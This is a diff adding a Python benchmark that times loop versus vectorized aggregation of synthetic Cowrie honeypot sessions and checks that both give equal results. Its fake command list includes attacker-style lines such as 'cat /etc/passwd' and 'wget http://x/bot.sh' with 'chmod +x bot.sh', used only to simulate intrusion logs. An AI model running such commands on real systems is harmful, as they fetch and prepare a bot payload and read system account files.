@@ -0,0 +1,125 @@
+# bench_features.py
+"""
+Benchmark session aggregation: the original per-session Python loop versus
+the vectorized build_session_features pipeline, on synthetic Cowrie events
+at 10k, 100k and 1M sessions. Both outputs are checked for equality.
+"""
+import argparse
+import time
+from collections import Counter
+
+import numpy as np
+import pandas as pd
+
+from build_features_from_real import build_session_features, session_key
+
+EVENTIDS = np.array(["cowrie.session.connect", "cowrie.login.failed", "cowrie.login.success",
+                     "cowrie.command.input", "cowrie.session.closed"], dtype=object)
+COMMANDS = np.array(["ls -la", "cat /etc/passwd", "uname -a", "wget http://x/bot.sh",
+                     "cd /tmp", "echo hi", "chmod +x bot.sh"], dtype=object)
+PASSWORDS = np.array(["1234", "root", "admin", "toor", "password", "123456"], dtype=object)
+
+
+def synthetic_events(n_sessions, events_per_session=6, seed=42):
+    # strings are built once per session / per vocabulary entry and then
+    # indexed, so 1M sessions (6M events) fits comfortably in memory
+    rng = np.random.default_rng(seed)
+    n = n_sessions * events_per_session
+    sess = rng.integers(0, n_sessions, n)
+    ev = rng.choice(len(EVENTIDS), n, p=[0.15, 0.35, 0.05, 0.3, 0.15])
+    cmd = rng.integers(0, len(COMMANDS), n)
+    is_login = (ev == 1) | (ev == 2)
+    is_cmd = ev == 3
+    ids = np.arange(n_sessions)
+    ips = np.array([f"10.{i >> 16 & 255}.{i >> 8 & 255}.{i & 255}" for i in ids], dtype=object)
+    names = np.array([f"s{i}" for i in ids], dtype=object)
+    messages = np.array(["CMD: " + c for c in COMMANDS], dtype=object)
+    return pd.DataFrame({
+        "timestamp": (pd.Timestamp("2025-01-01") + pd.to_timedelta(np.arange(n), unit="s")).astype(str),
+        "src_ip": ips[sess],
+        "session": names[sess],
+        "password": np.where(is_login, PASSWORDS[rng.integers(0, len(PASSWORDS), n)], None),
+        "duration": np.where(ev == 4, rng.uniform(0, 300, n).round(2), np.nan),
+        "eventid": EVENTIDS[ev],
+        "message": np.where(is_cmd, messages[cmd], None),
+        "command": np.where(is_cmd, COMMANDS[cmd], None),
+    })
+
+
+def build_session_features_loop(df):
+    # the original per-session implementation, kept as the reference
+    group_col = session_key(df)
+    rows = []
+    for key, g in df.groupby(group_col):
+        src_ip = g['src_ip'].iloc[0] if 'src_ip' in g.columns else ''
+        if g['duration'].notna().any():
+            dur = pd.to_numeric(g['duration'], errors='coerce').dropna()
+            session_duration = float(dur.max()) if len(dur) > 0 else 0.0
+        else:
+            session_duration = 0.0
+        command_count = g['eventid'].str.contains('command|input|login', na=False).sum()
+        failed_logins = (g['eventid'] == 'cowrie.login.failed').sum()
+        tokens = []
+        if 'command' in g.columns:
+            tokens += list(g['command'].dropna().astype(str))
+        if 'message' in g.columns:
+            tokens += list(g['message'].dropna().astype(str))
+        if 'password' in g.columns:
+            tokens += list(g['password'].dropna().astype(str))
+        words = []
+        for t in tokens:
+            for w in str(t).split():
+                w = w.strip().lower()
+                if len(w) > 0 and len(w) < 40:
+                    words.append(w)
+        common = Counter(words).most_common(1)
+        common_commands = common[0][0] if common else "other"
+        if failed_logins >= 2 and command_count <= 3:
+            attack_type = "Brute Force"
+        elif command_count >= 3:
+            attack_type = "Command Injection"
+        else:
+            attack_type = "Other"
+        rows.append({
+            "timestamp": g['timestamp'].iloc[0] if 'timestamp' in g.columns else "",
+            "src_ip": src_ip,
+            "session_duration": session_duration,
+            "command_count": float(command_count),
+            "failed_logins": float(failed_logins),
+            "common_commands": common_commands,
+            "attack_type": attack_type
+        })
+    return pd.DataFrame(rows)
+
+
+def timed(fn, df):
+    t0 = time.perf_counter()
+    out = fn(df)
+    return out, time.perf_counter() - t0
+
+
+def main():
+    p = argparse.ArgumentParser(description="Compare loop vs vectorized session aggregation")
+    p.add_argument("--sizes", default="10000,100000,1000000", help="comma-separated session counts")
+    p.add_argument("--skip-loop-above", type=int, default=None,
+                   help="only run the (slow) loop path up to this many sessions")
+    args = p.parse_args()
+
+    print(f"{'sessions':>10} {'events':>10} {'loop s':>10} {'vector s':>10} {'speedup':>8}  equal")
+    for n in [int(x) for x in args.sizes.split(",")]:
+        df = synthetic_events(n)
+        vec, t_vec = timed(build_session_features, df)
+        if args.skip_loop_above is not None and n > args.skip_loop_above:
+            print(f"{n:>10} {len(df):>10} {'-':>10} {t_vec:>10.2f} {'-':>8}  -")
+            continue
+        ref, t_loop = timed(build_session_features_loop, df)
+        try:
+            pd.testing.assert_frame_equal(vec[ref.columns], ref, check_dtype=False)
+            equal = "yes"
+        except AssertionError as e:
+            equal = f"NO ({str(e).splitlines()[0]})"
+        print(f"{n:>10} {len(df):>10} {t_loop:>10.2f} {t_vec:>10.2f} {t_loop / t_vec:>7.1f}x  {equal}")
+
+
+if __name__ == "__main__":
+    main()